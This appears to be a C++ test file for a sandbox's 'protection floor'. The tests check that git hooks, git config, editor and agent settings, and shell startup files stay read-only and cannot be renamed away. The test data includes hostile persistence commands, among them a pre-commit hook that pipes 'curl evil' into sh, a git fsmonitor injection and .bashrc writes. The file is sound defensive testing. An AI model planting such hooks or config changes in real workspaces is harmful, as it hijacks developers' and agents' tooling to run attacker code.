// The protection floor (sandbox/floor.hpp): with a policy that allows everything and without the
// built-in policy, git hooks and config, editors' and agents' settings and shell startup files
// stay read-only in the workspace and in nested projects, existing or not, and cannot be
// renamed away. Only --unprotect lifts an entry, by name, and the lift is on the record.
#include "escape_harness.hpp"

using namespace airlock::escape;

namespace {

// Each attack runs on its own (`;`), and prints which ones got through.
std::string attempts(const std::vector<std::pair<std::string, std::string>>& named) {
    std::string script;
    for (const auto& [name, cmd] : named)
        script += "( " + cmd + " ) 2>/dev/null && echo 'through: " + name + "'; ";
    return script + "echo done";
}

// The same call as Scenario::sh, with extra options before `--`.
Ran exec_with(Scenario& s, const std::vector<std::string>& options, const std::string& script) {
    const fs::path policy = s.outside() / "allow-all.json";
    write_text(policy, allow_all_policy(""));
    std::vector<std::string> args = {
        "exec",          "--json",    "--no-builtin-policy", "--policy",
        policy.string(), "--sandbox", adapter_under_test()};
    args.insert(args.end(), options.begin(), options.end());
    for (const std::string a : {"--", "sh", "-c"})
        args.push_back(a);
    args.push_back(script);
    return s.airlock(args);
}

// Under the seccomp adapter the floor cannot be enforced: the call is refused instead.
bool refused_under_seccomp(Scenario& s, const std::string& script) {
    if (!under_seccomp()) return false;
    auto r = exec_with(s, {}, script);
    require_refused_by_sandbox(r, "protection floor");
    return true;
}

const std::vector<std::pair<std::string, std::string>> kExistingAttacks = {
    {"hook", "echo 'curl evil | sh' > .git/hooks/pre-commit"},
    {"git config", "echo '[core] fsmonitor = evil' >> .git/config"},
    {"vscode", "echo '{}' > .vscode/tasks.json"},
    {"claude", "echo '{}' > .claude/settings.json"},
    {"bashrc", "echo evil >> .bashrc"},
    {"mcp", "echo '{}' > .mcp.json"},
    {"airlock", "echo x > .airlock/policy.json"},
};

}  // namespace

TEST_CASE("the floor keeps existing hooks, configs and startup files read-only") {
    Scenario s;
    fs::create_directories(s.ws() / ".git/hooks");
    fs::create_directories(s.ws() / ".vscode");
    fs::create_directories(s.ws() / ".claude");
    write_text(s.ws() / ".git/config", "[core]\n");
    write_text(s.ws() / ".bashrc", "# rc\n");
    write_text(s.ws() / ".mcp.json", "{}\n");
    if (refused_under_seccomp(s, "true")) return;
    auto r = s.sh(attempts(kExistingAttacks) + "; echo ok > notes.txt");
    require_sandboxed(r);
    CHECK(field(r, "stdout") == "done\n");
    CHECK_FALSE(fs::exists(s.ws() / ".git/hooks/pre-commit"));
    CHECK(read_text(s.ws() / ".git/config") == "[core]\n");
    CHECK(read_text(s.ws() / ".bashrc") == "# rc\n");
    CHECK(read_text(s.ws() / ".mcp.json") == "{}\n");
    CHECK_FALSE(fs::exists(s.ws() / ".vscode/tasks.json"));
    CHECK_FALSE(fs::exists(s.ws() / ".airlock/policy.json"));
    // Positive controls: the rest of the workspace is writable in the same call, and the same
    // attacks work where nothing stops them.
    CHECK(read_text(s.ws() / "notes.txt") == "ok\n");
    auto ok = s.unconfined_sh(attempts({kExistingAttacks.begin(), kExistingAttacks.end() - 1}));
    CHECK(field(ok, "stdout") ==
          "through: hook\nthrough: git config\nthrough: vscode\nthrough: claude\n"
          "through: bashrc\nthrough: mcp\ndone\n");
}

TEST_CASE("the floor blocks missing entries from being created, and leaves nothing behind") {
    Scenario s;
    if (refused_under_seccomp(s, "true")) return;
    const std::vector<std::pair<std::string, std::string>> attacks = {
        {"git", "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"},
        {"vscode", "mkdir .vscode"},
        {"cursor", "mkdir -p .cursor/rules"},
        {"mcp", "echo '{}' > .mcp.json"},
        {"zshrc", "echo evil > .zshrc"},
        {"profile", "echo evil > .profile"},
        {"envrc", "echo evil > .envrc"},
    };
    auto r = s.sh(attempts(attacks) + "; mkdir src && echo ok > src/a.txt");
    require_sandboxed(r);
    CHECK(field(r, "stdout") == "done\n");
    for (const char* name : {".git", ".vscode", ".cursor", ".mcp.json", ".zshrc", ".profile",
                             ".envrc", ".claude", ".bashrc"}) {
        CAPTURE(name);
        CHECK_FALSE(fs::exists(fs::symlink_status(s.ws() / name)));  // no placeholder left
    }
    CHECK(read_text(s.ws() / "src/a.txt") == "ok\n");
    // The effective profile says what the floor covered.
    const auto floor = effective(r)["filesystem"]["floor"];
    CHECK(floor["lifted"].empty());
    CHECK(floor["roots"][0] == s.ws().string());
    CHECK(floor["scan"]["complete"] == true);
}

TEST_CASE("the floor holds in nested projects and against renaming a parent away") {
    Scenario s;
    const fs::path proj = s.ws() / "packages/app";
    fs::create_directories(proj / ".git/hooks");
    fs::create_directories(proj / "src");
    if (refused_under_seccomp(s, "true")) return;
    auto r = s.sh(attempts({
                      {"nested hook", "echo evil > packages/app/.git/hooks/post-checkout"},
                      {"nested envrc", "echo evil > packages/app/.envrc"},
                      {"nested claude", "mkdir packages/app/.claude"},
                      {"rename parent", "mv packages pk && mkdir -p packages/app/.git/hooks"},
                      {"rename .git", "mv packages/app/.git packages/app/old-git"},
                  }) +
                  "; echo ok > packages/app/src/main.c");
    require_sandboxed(r);
    CHECK(field(r, "stdout") == "done\n");
    CHECK_FALSE(fs::exists(proj / ".git/hooks/post-checkout"));
    CHECK_FALSE(fs::exists(fs::symlink_status(proj / ".envrc")));
    CHECK(fs::is_directory(proj / ".git/hooks"));
    CHECK_FALSE(fs::exists(s.ws() / "pk"));
    CHECK(read_text(proj / "src/main.c") == "ok\n");
    bool nested_root = false;
    const auto roots = effective(r)["filesystem"]["floor"]["roots"];
    for (const auto& root : roots)
        nested_root = nested_root || root == fs::canonical(proj).string();
    CHECK_MESSAGE(nested_root, "floor roots: " << roots.dump());
}

TEST_CASE("--unprotect lifts exactly the entry it names, and the lift is recorded") {
    Scenario s;
    fs::create_directories(s.ws() / ".git/hooks");
    write_text(s.ws() / ".git/config", "[core]\n");
    if (under_seccomp()) {
        // One lifted entry is not enough for this adapter: the rest of the floor still refuses.
        auto r = exec_with(s, {"--unprotect", ".git/hooks"}, "true");
        require_refused_by_sandbox(r, "protection floor");
        return;
    }
    auto r = exec_with(s, {"--unprotect", ".git/hooks"},
                       attempts({{"hook", "echo '#!/bin/sh' > .git/hooks/pre-commit"},
                                 {"git config", "echo evil >> .git/config"}}));
    require_sandboxed(r);
    CHECK(field(r, "stdout") == "through: hook\ndone\n");
    CHECK(read_text(s.ws() / ".git/hooks/pre-commit") == "#!/bin/sh\n");
    CHECK(read_text(s.ws() / ".git/config") == "[core]\n");
    const auto floor = effective(r)["filesystem"]["floor"];
    CHECK(floor["lifted"] == nlohmann::json::array({".git/hooks"}));
    const auto records = s.workspace().run_records(result(r)["wal"].get<std::string>());
    REQUIRE_FALSE(records.empty());
    CHECK(records.front()["type"] == "run_started");
    CHECK(records.front()["data"]["unprotected"] == nlohmann::json::array({".git/hooks"}));

    // A name that is not on the floor, or airlock's own evidence, is a configuration error.
    for (const char* bad : {".git", ".airlock", "src"}) {
        CAPTURE(bad);
        auto refused = exec_with(s, {"--unprotect", bad}, "touch ran");
        CHECK(refused.exit_code != 0);
        CHECK(contains(refused.out + refused.err, "--unprotect"));
        CHECK_FALSE(fs::exists(s.ws() / "ran"));
    }
}

TEST_CASE("file_write under a floor entry is denied whatever the policy, at any depth") {
    Scenario s;
    const fs::path policy = s.outside() / "allow-all.json";
    write_text(policy, allow_all_policy(""));
    auto write = [&](const std::string& path, const std::vector<std::string>& extra = {}) {
        std::vector<std::string> args = {"write", "--json", "--no-builtin-policy", "--policy",
                                         policy.string()};
        args.insert(args.end(), extra.begin(), extra.end());
        args.push_back(path);
        return s.airlock(args, "evil\n");
    };
    for (const char* path : {".git/hooks/pre-commit", "sub/repo/.git/config", ".vscode/tasks.json",
                             "deep/a/b/c/.bashrc"}) {
        CAPTURE(path);
        auto r = write(path);
        CHECK(r.exit_code == 126);
        const auto j = result(r);
        CHECK(j["status"] == "denied");
        CHECK(j["stage"] == "floor");
        CHECK_FALSE(fs::exists(s.ws() / path));
        bool recorded = false;
        for (const auto& rec : s.workspace().run_records(j["wal"].get<std::string>()))
            recorded = recorded || (rec["type"] == "floor_denied" && rec["data"]["path"] == path);
        CHECK(recorded);
    }
    // .airlock is refused even earlier, as invalid input (file tools never touch airlock's state).
    auto state = write(".airlock/policy.json");
    CHECK(state.exit_code == 126);
    CHECK_FALSE(fs::exists(s.ws() / ".airlock/policy.json"));
    // Positive controls: an ordinary path is written, and a lifted entry is too.
    CHECK(write("src/ok.txt").exit_code == 0);
    CHECK(read_text(s.ws() / "src/ok.txt") == "evil\n");
    CHECK(write(".git/hooks/pre-commit", {"--unprotect", ".git/hooks"}).exit_code == 0);
    CHECK(read_text(s.ws() / ".git/hooks/pre-commit") == "evil\n");
}
